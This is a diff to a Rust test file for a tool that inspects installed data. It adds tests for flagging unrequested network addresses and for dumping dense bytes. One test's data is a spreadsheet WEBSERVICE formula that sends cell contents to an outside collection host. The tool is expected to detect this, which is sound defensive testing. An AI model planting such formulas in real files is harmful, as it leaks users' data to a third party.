@@ -14,6 +14,7 @@ use guild_contract::{
     text::is_steering,
 };
 use serde_json::{Value, json};
+use sha2::{Digest as _, Sha256};
 use wasm_encoder::{Component, ConstExpr, DataSection, MemorySection, MemoryType, Module, ModuleSection};
 use wit_component::{ComponentEncoder, StringEncoding, embed_component_metadata};
 use wit_parser::{ManglingAndAbi, Resolve};
@@ -678,6 +679,40 @@ fn blanks_at_the_ends_of_a_postures_lines_are_told_and_shown() {
     let shown = text(&guild(&home, &["ann", "--members", "members", "--texts"]));
     assert!(shown.contains("| - Answer in a sentence.·\n| - Answer in a sentence.→\n"), "{shown}");
     assert!(shown.contains("[a line that ends in blanks or tabs: 64]"), "{shown}");
+}
+
+#[test]
+fn an_address_in_data_that_is_not_asked_for_is_told_with_the_formula_around_it() {
+    let home = Home::new();
+    let data = b"=WEBSERVICE(\"https://collect.acme.net/\"&A1), see https://docs.rs/serde";
+    install(&home, &["web"], data, json!({"grants": {"web": {"hosts": ["docs.rs"]}}}));
+    let done = guild(&home, &["ann", "--members", "members", "--fail-on", "address-in-data"]);
+    assert_eq!(code(&done), Some(1), "{}", text(&done));
+    assert!(text(&done).contains("which the formula WEBSERVICE asks for"), "{}", text(&done));
+    assert!(!text(&done).contains("docs.rs/serde"), "{}", text(&done));
+}
+
+#[test]
+fn texts_come_after_the_facts_and_a_beginning_of_a_place_shows_also_dense_bytes() {
+    let home = Home::new();
+    let dense: Vec<u8> = (0..64_u8).flat_map(|n| Sha256::digest([n])).collect();
+    let data = [b"A sentence that a reader of the data reads.\0\0\0\0".as_slice(), &dense].concat();
+    install(&home, &[], &data, json!({}));
+    let shown = text(&guild(&home, &["ann", "--members", "members", "--texts"]));
+    let facts = shown.find("Facts: ").unwrap_or_else(|| panic!("{shown}"));
+    assert!(facts < shown.find("A sentence that a reader").unwrap(), "{shown}");
+    // The fact about the bytes names the place before.
+    let listed = shown.rsplit_once("dense bytes at data at byte ").and_then(|(_, rest)| rest.split(',').next());
+    let place = listed.unwrap_or_else(|| panic!("{shown}"));
+    let is_dump = |line: &str| {
+        let digits = line.get(2..50).unwrap_or_default().split_whitespace();
+        digits.filter(|word| word.len() == 2 && u8::from_str_radix(word, 16).is_ok()).count() == 16
+    };
+    for digits in [place, &place[..place.len() - 1]] {
+        let asked = format!("--texts=data at byte {digits}");
+        let shown = text(&guild(&home, &["ann", "--members", "members", &asked]));
+        assert!(shown.lines().any(is_dump), "{asked}: {shown}");
+    }
 }
 
 #[test]
